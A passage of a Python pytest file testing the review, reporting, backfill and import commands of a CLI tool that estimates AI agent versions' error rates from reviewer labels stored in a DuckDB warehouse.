    with connect(warehouse, read_only=True) as conn:
        assert any(
            p.source.startswith("reviewer labels") for p in operating_points_for(conn, EVALUATOR_VERSION).values()
        )
        week = collect(conn, "demo", "2026-W48")
    (check,) = [c for c in week.drift if c["kind"] == "version"]
    rates = {row["agent_version"]: row["wrong_share"] for row in week.headline}
    assert check["error_rate_candidate"] == pytest.approx(rates[check["candidate_version"]])
    assert check["error_rate_baseline"] == pytest.approx(rates[check["baseline_version"]])
    (headline,) = [row for row in week.headline if row["agent_version"] == check["candidate_version"]]
    assert headline["drift_sentence"] == check["sentence"]
    assert f"{round(100 * rates[check['candidate_version']])} %" in check["sentence"]


def test_the_report_breakdowns_use_the_operating_points_of_the_headline(workdir: Path) -> None:
    """With 200 random labels the headline estimated v1.5.0's wrong answers at 62 %; the table
    "against the previous week" said 72 % for the same week and answers, and the table by app_id
    used the shipped operating points too (the labels' were left out)."""
    from stef.monitor.drift import sample_error_rate
    from tasks.drift_checks import drift_sample
    from tasks.report import collect
    from warehouse.monitoring import read_breakdown_rows

    warehouse = str(workdir / "stef-demo.duckdb")
    review = workdir / "random.csv"
    sampled = invoke(
        "review", "sample", "--warehouse", warehouse, "--n", "200", "--seed", "7", "--out", str(review)
    )  # fmt: skip
    assert sampled.exit_code == 0, sampled.output
    _fill(review, _truth(workdir))
    assert invoke("review", "import", str(review), "--warehouse", warehouse).exit_code == 0
    with connect(warehouse, read_only=True) as conn:
        week = collect(conn, "demo", "2026-W48")
        points = operating_points_for(conn, EVALUATOR_VERSION)
        rows = read_breakdown_rows(conn, week.start, week.end, EVALUATOR_VERSION)
    headline = {row["agent_version"]: row["wrong_share"] for row in week.headline}
    assert {row["agent_version"]: row["wrong_share"] for row in week.vs_previous} == pytest.approx(headline)
    by_app = {(row["agent_version"], row["app_id"]): row["wrong_share"] for row in week.by_app}
    for key in [("v1.5.0", "formula_1"), ("v1.4.0", "card_games")]:
        mine = [tuple(fields) for _, version, app, _, *fields in rows if (version, app) == key]
        rate = sample_error_rate(drift_sample(mine), points)
        assert rate is not None and by_app[key] == pytest.approx(rate.estimate)


@pytest.mark.parametrize("name", ["review.xlsx", "review.XLS", "review.ods"])
def test_sample_refuses_a_workbook_name_it_would_fill_with_csv(tmp_path: Path, name: str) -> None:
    """`--out review.xlsx` wrote a CSV file under a workbook's name, which Excel refuses to open
    ("file format or extension is not valid"); `stef export` already refused it."""
    result = invoke(
        "review", "sample", "--warehouse", str(tmp_path / "none.duckdb"), "--out", str(tmp_path / name)
    )  # fmt: skip
    assert result.exit_code == 2
    message = result.stderr.strip()
    assert message.startswith("error: --out ") and len(message.splitlines()) == 1
    assert name in message and str(tmp_path / "review.csv") in message
    assert not list(tmp_path.iterdir())
    written = invoke(  # a named --format is what the user asked for
        "review", "sample", "--warehouse", str(tmp_path / "none.duckdb"), "--format", "csv",
        "--out", str(tmp_path / name),
    )  # fmt: skip
    assert written.exit_code == 2 and "none.duckdb does not exist" in written.stderr  # past the name check


@pytest.mark.flow
def test_backfill_names_the_calibrated_version_a_skipped_day_was_done_with(workdir: Path) -> None:
    """After `stef review calibrate`, the nightly stores the day under `…+calib=<digest>` and a
    backfill skips it as done with that version; its line said `already done with stef-…-7` (the
    version without the warehouse's calibrator), which names another stored version of the day."""
    warehouse = str(workdir / "stef-demo.duckdb")
    review = workdir / "random.csv"
    sampled = invoke(
        "review", "sample", "--warehouse", warehouse, "--n", "200", "--seed", "7", "--out", str(review)
    )  # fmt: skip
    assert sampled.exit_code == 0, sampled.output
    _fill(review, _truth(workdir))
    assert invoke("review", "import", str(review), "--warehouse", warehouse).exit_code == 0
    assert invoke("review", "calibrate", "--warehouse", warehouse).exit_code == 0
    logs = str(workdir / "stef-demo" / "logs")
    night = invoke("nightly", "--date", "2026-11-26", "--logs-root", logs, "--warehouse", warehouse)
    assert night.exit_code == 0, night.output
    with connect(warehouse, read_only=True) as conn:
        (calibrated,) = [
            str(row[0])
            for row in conn.execute(
                "SELECT evaluator_version FROM stored_days WHERE log_date = DATE '2026-11-26'"
            ).fetchall()
            if "+calib=" in str(row[0])
        ]
    backfill = invoke(
        "backfill", "--start", "2026-11-26", "--end", "2026-11-26", "--logs-root", logs, "--warehouse", warehouse
    )  # fmt: skip
    assert backfill.exit_code == 0, backfill.output
    assert f"2026-11-26: skipped (already done with {calibrated}; --force redoes it)" in backfill.stdout.splitlines()


def test_importing_a_workbook_says_it_is_one_and_how_to_save_csv(workdir: Path) -> None:
    """`stef review import real.xlsx` said "not UTF-8 text (byte 0x86)"."""
    import zipfile

    warehouse = str(workdir / "stef-demo.duckdb")
    book = workdir / "real.xlsx"
    with zipfile.ZipFile(book, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="x"/>' * 20)
    result = invoke("review", "import", str(book), "--warehouse", warehouse)
    assert result.exit_code == 2 and result.stdout == ""
    assert " ".join(result.stderr.split()) == (
        f"error: {book}: a workbook or other zip archive (.xlsx, .ods, .zip), not a CSV, JSONL or JSON label file; "
        'if it is a workbook, open it in the spreadsheet and save the sheet as CSV (Excel: File > Save As > "CSV UTF-8")'
    )
    assert _stored_reviews(warehouse) == {}
